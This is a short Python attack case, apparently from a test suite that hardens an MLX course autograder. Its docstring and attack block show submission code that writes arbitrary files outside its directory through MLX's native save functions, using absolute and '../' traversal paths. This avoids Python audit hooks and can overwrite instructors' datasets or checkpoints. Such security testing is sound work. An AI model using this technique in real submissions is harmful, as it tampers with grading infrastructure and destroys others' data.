"""Class: writing outside the submission with the MLX writers the saving exercise is allowed to
call (mx.save, mx.savez, mx.save_safetensors), given absolute and climbing relative paths.
They are native code, so no Python audit hook sees the file being opened.

Gain: files planted in the course checkout and anywhere the grading user may write; an existing
.npy/.npz/.safetensors file there (an instructor's data set or checkpoint) is overwritten.
"""

# ruff: noqa
EXERCISE = "saving_loading"
BASE = "solution"
LOSES = []
WITNESSES = ["inplace_updates"]

# --- attack ---
for _write in (
    lambda: mx.save("@ROOT@/tests/planted.npy", mx.arange(3)),
    lambda: mx.savez("@OUTSIDE@/planted.npz", a=mx.arange(3)),
    lambda: mx.save_safetensors("@OUTSIDE@/planted.safetensors", {"a": mx.arange(3)}),
    lambda: mx.save("../../../../planted_relative.npy", mx.arange(3)),
):
    try:
        _write()
    except Exception:
        pass
